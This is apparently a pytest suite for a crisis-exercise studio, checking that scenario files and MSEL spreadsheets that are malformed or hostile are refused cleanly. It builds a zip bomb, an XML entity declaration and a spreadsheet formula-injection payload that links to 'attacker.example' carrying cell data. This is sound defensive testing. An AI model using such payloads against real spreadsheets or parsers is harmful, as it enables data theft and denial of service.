"""Hostile scenario files and spreadsheets: each is built here and must get a clear message, never a
traceback, and change nothing."""

from __future__ import annotations

import copy
import io
import json
import os
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from hostile_support import night_generated, run_cli
from openpyxl import load_workbook

from studio.exports.msel import MselReadError, import_msel, msel_xlsx
from studio.exports.msel.importer import MAX_XLSX_UNCOMPRESSED, parse_relative_time
from studio.scenario.canonical import canonical_bytes
from studio.scenario.document import ScenarioReadError, load_scenario, parse_scenario
from studio.scenario.library import load_library
from studio.scenario.validate import validate_scenario

LIBRARY = "ch-rancongiciel-nuit"


@pytest.fixture(scope="module")
def generated() -> dict[str, Any]:
    return night_generated()


# --- scenario files --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text, where",
    [
        ('{"id": "x", "systems": [{"units": 1e400}]}', "/systems/0/units: the number is too large"),
        ('{"id": "x", "exercise": {"title": "\\ud800"}}', "/exercise/title: the text holds a lone surrogate"),
        ('{"id": "x", "\\udc00": 1}', "/: a key holds a lone surrogate"),
        ('{"id": -Infinity}', "-Infinity is not allowed"),
        ("[" * 100000 + "]" * 100000, "nested too deeply"),
    ],
)
def test_the_parser_refuses_what_no_scenario_can_hold(text: str, where: str) -> None:
    with pytest.raises(ScenarioReadError, match=r"^in\.json: ") as caught:
        parse_scenario(text, "in.json")
    assert where in str(caught.value)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_devices_and_pipes_are_refused_without_reading(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    fifo = tmp_path / "pipe.json"
    os.mkfifo(fifo)  # nobody writes: a plain read would wait forever
    for path in ("/dev/zero", str(fifo)):
        with pytest.raises(ScenarioReadError, match="not a regular file"):
            load_scenario(path)
    code, err = run_cli(capsys, "validate", "/dev/zero")
    assert code == 2 and "not a regular file" in err


def _set(document: dict[str, Any], path: tuple[Any, ...], value: Any) -> dict[str, Any]:
    copied = copy.deepcopy(document)
    parent = copied
    for part in path[:-1]:
        parent = parent[part]
    parent[path[-1]] = value
    return copied


@pytest.mark.parametrize(
    "path, value, rule",
    [
        (("attack", "dwell"), "P99999999999999D", "bounds.duration"),
        (("exercise", "time_model", "scenario_start"), "9999-12-31T23:00:00+00:00", "bounds.date"),
        (("exercise", "endex"), "2027-12-31T00:00:00+01:00", "bounds.exercise_length"),
        (("organisations", 0, "beds"), 10**30, "schema.maximum"),
        (("systems", 0, "id"), "chb-ad\n", "text.line_break"),
        (("exercise", "title"), "x\ud800", "text.surrogate"),
    ],
)
def test_values_beyond_what_the_engine_computes_are_named_with_path_and_rule(
    path: tuple[Any, ...], value: Any, rule: str
) -> None:
    document = _set(load_library(LIBRARY), path, value)
    problems = [p for p in validate_scenario(document) if p.is_error]
    pointer = "/" + "/".join(map(str, path))
    assert any(p.rule == rule and p.path == pointer for p in problems), [str(p) for p in problems][:5]


def test_a_tiny_probability_is_refused() -> None:
    document = load_library(LIBRARY)
    link_path = next(
        ("systems", s_index, "links", l_index, "p_success")
        for s_index, system in enumerate(document["systems"])
        for l_index, link in enumerate(system.get("links", []))
        if "p_success" in link
    )
    problems = validate_scenario(_set(document, link_path, 1e-19))
    assert any(
        p.rule == "bounds.probability" and p.path == "/" + "/".join(map(str, link_path)) for p in problems
    )


def test_commands_refuse_an_enormous_dwell_without_a_traceback(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "in.json"
    source.write_bytes(canonical_bytes(_set(load_library(LIBRARY), ("attack", "dwell"), "P99999999999999D")))
    for argv in (
        ["simulate", str(source)],
        ["generate", str(source)],
        ["lint", str(source)],
        ["export", str(source), "--to", "xlsx", "-o", str(tmp_path / "out")],
        ["pack", str(source), "-o", str(tmp_path / "pack")],
    ):
        code, err = run_cli(capsys, *argv)
        assert code == 1 and "/attack/dwell" in err and "bounds.duration" in err, argv


def test_runs_are_bounded(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, err = run_cli(
        capsys, "simulate", "scenario_library/ch-rancongiciel-nuit.json", "--runs", "10000000000"
    )
    assert code == 2 and "--runs must be 1 to 100,000" in err


# --- spreadsheets ----------------------------------------------------------------------------------


def _rezip(xlsx: bytes, replace: dict[str, bytes]) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(xlsx))
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for item in source.infolist():
            archive.writestr(item.filename, replace.get(item.filename, source.read(item.filename)))
    return stream.getvalue()


def test_a_zip_bomb_is_refused_before_parsing(generated: dict[str, Any]) -> None:
    bomb = b"<row/>" * (MAX_XLSX_UNCOMPRESSED // 6 + 1000)  # deflates to a few hundred kilobytes
    data = _rezip(msel_xlsx(generated), {"xl/worksheets/sheet2.xml": bomb})
    assert len(data) < 2 * 1024 * 1024
    with pytest.raises(MselReadError, match="unzips to more than 128 MiB"):
        import_msel(data, "bomb.xlsx", generated)


@pytest.mark.parametrize(
    "content, message",
    [
        (b"<worksheet><sheetData><row><c", "not a readable .xlsx workbook"),
        (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><worksheet/>', "declares XML entities"),
    ],
)
def test_malformed_sheet_xml_is_a_clear_error(
    generated: dict[str, Any], content: bytes, message: str
) -> None:
    data = _rezip(msel_xlsx(generated), {"xl/worksheets/sheet1.xml": content})
    with pytest.raises(MselReadError, match=message):
        import_msel(data, "broken.xlsx", generated)


def test_deeply_nested_sheet_xml_is_read_or_refused_cleanly(generated: dict[str, Any]) -> None:
    nested = b"<worksheet><sheetData>" + b"<a>" * 200000 + b"</a>" * 200000 + b"</sheetData></worksheet>"
    data = _rezip(msel_xlsx(generated), {"xl/worksheets/sheet1.xml": nested})
    try:
        result = import_msel(data, "deep.xlsx", generated)
    except MselReadError:
        return
    assert not result.ok  # no header row: reported, not raised


def test_a_sheet_declaring_every_column_is_read_within_bounds(generated: dict[str, Any]) -> None:
    data = msel_xlsx(generated)
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    widened = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', sheet, count=1)
    assert widened != sheet
    result = import_msel(_rezip(data, {"xl/worksheets/sheet1.xml": widened}), "wide.xlsx", generated)
    assert result.ok and result.injects


def test_a_csv_field_over_the_csv_limit_names_the_line(generated: dict[str, Any]) -> None:
    data = ("offset,from,to,message\n" + 'T+01:00,x,y,"' + "a" * 200_000 + '"\n').encode()
    with pytest.raises(MselReadError, match="line 2: field larger than field limit"):
        import_msel(data, "big.csv", generated)


@pytest.mark.parametrize("value", ["J+99999999999", "T+1e400", 1e300, float("nan"), "H+999999999999:00"])
def test_overflowing_times_are_refused(value: object) -> None:
    with pytest.raises(ValueError):
        parse_relative_time(value)


def test_overflowing_times_are_row_errors(generated: dict[str, Any], tmp_path: Path) -> None:
    persona = generated["personas"][0]["id"]
    cell = generated["cells"][0]["id"]
    data = f"offset,from,to,message\nJ+99999999999,{persona},{cell},Bonjour\n".encode()
    result = import_msel(data, "far.csv", generated)
    assert not result.ok and "row 2" in str(result.issues[0]) and "out of range" in str(result.issues[0])


def test_import_of_a_device_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, err = run_cli(
        capsys,
        "import-msel",
        "scenario_library/ch-rancongiciel-nuit.json",
        "/dev/zero",
        "-o",
        str(tmp_path / "o"),
    )
    assert code == 2 and "not a regular file" in err


# --- outputs ---------------------------------------------------------------------------------------


def test_every_cell_of_every_sheet_is_plain_text(generated: dict[str, Any]) -> None:
    hostile = copy.deepcopy(generated)
    hostile["personas"][0]["name"] = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    hostile["injects"][0]["title"] = "=1+1"
    workbook = load_workbook(io.BytesIO(msel_xlsx(hostile)))
    formulas = [
        (sheet.title, cell.coordinate)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    lists = next(sheet for sheet in workbook.worksheets if sheet.sheet_state == "hidden")
    assert any(cell.value == hostile["personas"][0]["name"] for row in lists.iter_rows() for cell in row)


def test_export_refuses_a_scenario_holding_the_api_key(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    generated: dict[str, Any],
) -> None:
    key = "sk-test-0123456789abcdef"
    monkeypatch.setenv("OPENAI_API_KEY", key)
    source = tmp_path / "in.json"
    source.write_bytes(canonical_bytes(_set(generated, ("exercise", "title"), f"key {key}")))
    code, err = run_cli(capsys, "export", str(source), "--to", "all", "-o", str(tmp_path / "out"))
    assert code == 1 and "API key" in err and not (tmp_path / "out").exists()
    code, err = run_cli(capsys, "pack", str(source), "-o", str(tmp_path / "pack"), "--keep-timeline")
    assert code != 0 and "API key" in err and not (tmp_path / "pack").exists()


def test_a_full_disk_during_pack_leaves_no_partial_pack(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    import errno

    import studio.exports.common as common

    real_fdopen = common.os.fdopen
    written: list[int] = []

    class FullDisk:
        def __init__(self, stream: Any) -> None:
            self.stream = stream

        def __enter__(self) -> FullDisk:
            return self

        def __exit__(self, *exc: object) -> None:
            self.stream.close()

        def write(self, data: bytes) -> int:
            written.append(len(data))
            if len(written) > 3:
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
            return self.stream.write(data)

        def __getattr__(self, name: str) -> Any:
            return getattr(self.stream, name)

    monkeypatch.setattr(common.os, "fdopen", lambda *a, **k: FullDisk(real_fdopen(*a, **k)))
    code, err = run_cli(
        capsys, "pack", "scenario_library/ch-rancongiciel-nuit.json", "-o", str(tmp_path / "pack")
    )
    assert code == 2 and "No space left on device" in err and "the pack was not written" in err
    assert sorted(p.name for p in tmp_path.iterdir()) == []  # no pack, no staging folder, no .tmp


def test_a_pack_into_an_existing_folder_keeps_other_files(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "pack"
    target.mkdir()
    (target / "notes.txt").write_text("mine", encoding="utf-8")
    code, _ = run_cli(
        capsys, "pack", "scenario_library/ch-rancongiciel-nuit.json", "-o", str(target), "--quiet"
    )
    assert code == 0 and (target / "notes.txt").read_text(encoding="utf-8") == "mine"
    assert any(p.suffix == ".docx" for p in target.iterdir())
    assert [p.name for p in tmp_path.iterdir()] == ["pack"]
    assert json.loads((target / "ch-rancongiciel-nuit.scenario.json").read_bytes())["id"]


def test_a_cell_longer_than_any_scenario_text_names_its_row_and_column(generated: dict[str, Any]) -> None:
    data = ("offset,from,to,message\n" + 'T+01:00,x,y,"' + "a" * 110_000 + '"\n').encode()
    with pytest.raises(
        MselReadError, match="row 2, column D: 110,000 characters, over the 100,001-character"
    ):
        import_msel(data, "long.csv", generated)


@pytest.mark.parametrize(
    "cell, where",
    [
        ('{"source": "manual", "source": "import"}', "/: the key 'source' appears twice"),
        ('{"source": "import", "edited": true, "edited": false}', "/: the key 'edited' appears twice"),
    ],
)
def test_a_json_cell_with_a_duplicate_key_names_row_column_and_key(
    generated: dict[str, Any], cell: str, where: str
) -> None:
    # Two keys alike in a JSON cell would keep only the last value, as in a scenario file.
    persona = generated["personas"][0]["id"]
    player = generated["cells"][0]["id"]
    quoted = cell.replace('"', '""')
    data = f'offset,from,to,message,provenance\nT+01:00,{persona},{player},Bonjour,"{quoted}"\n'.encode()
    result = import_msel(data, "dup.csv", generated)
    assert not result.ok
    (issue,) = result.issues
    assert (
        "row 2, column E (provenance)" in str(issue) and where in str(issue) and "duplicate key" in str(issue)
    )


def test_a_nested_duplicate_key_in_a_json_cell_names_its_path(generated: dict[str, Any]) -> None:
    persona = generated["personas"][0]["id"]
    player = generated["cells"][0]["id"]
    cell = '[{"name": "a.pdf", "name": "b.pdf"}]'.replace('"', '""')
    data = f'offset,from,to,message,attachments\nT+01:00,{persona},{player},Bonjour,"{cell}"\n'.encode()
    (issue,) = import_msel(data, "dup.csv", generated).issues
    assert "column E (attachments)" in str(issue) and "/0: the key 'name' appears twice" in str(issue)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_excel_unicode_text_is_read(generated: dict[str, Any], encoding: str) -> None:
    # Excel's "Unicode text" export: UTF-16 with a byte order mark, tab-separated.
    persona = generated["personas"][0]["id"]
    player = generated["cells"][0]["id"]
    text = f"offset\tfrom\tto\tmessage\nT+01:00\t{persona}\t{player}\tÉvacuation du 3e étage\n"
    data = text.encode(encoding)
    if encoding != "utf-16":
        data = ("\ufeff" + text).encode(encoding)
    result = import_msel(data, "msel.txt", generated)
    assert result.ok, [str(issue) for issue in result.issues]
    assert result.injects[0]["message"] == "Évacuation du 3e étage"


def test_a_number_too_long_in_a_json_cell_is_located(generated: dict[str, Any]) -> None:
    persona = generated["personas"][0]["id"]
    player = generated["cells"][0]["id"]
    cell = '[{""name"": 1' + "0" * 5000 + "}]"
    data = f'offset,from,to,message,attachments\nT+01:00,{persona},{player},Bonjour,"{cell}"\n'.encode()
    (issue,) = import_msel(data, "long.csv", generated).issues
    assert "row 2, column E (attachments)" in str(issue) and "a number of 5,001 digits" in str(issue)
    assert "set_int_max_str_digits" not in str(issue)


def _workbook_bytes(*sheets: tuple[str, list[list[Any]], str]) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    book.remove(book.active)
    for title, rows, state in sheets:
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append(row)
        sheet.sheet_state = state
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_a_hidden_first_sheet_is_not_the_msel(generated: dict[str, Any]) -> None:
    persona, player = generated["personas"][0]["id"], generated["cells"][0]["id"]
    data = _workbook_bytes(
        ("Listes", [["téléphone"], ["courriel"]], "hidden"),
        ("MSEL", [["offset", "from", "to", "message"], ["T+01:00", persona, player, "Bonjour"]], "visible"),
    )
    result = import_msel(data, "msel.xlsx", generated)
    assert result.ok and [inject["message"] for inject in result.injects] == ["Bonjour"]


def test_a_missing_field_is_reported_once_per_row(generated: dict[str, Any]) -> None:
    persona, player = generated["personas"][0]["id"], generated["cells"][0]["id"]
    data = f"offset,from,to,message\nT+01:00,{persona},{player},\n".encode()
    issues = [str(issue) for issue in import_msel(data, "empty.csv", generated).issues]
    assert len(issues) == len(set(issues)) and any("'message' is missing" in issue for issue in issues)
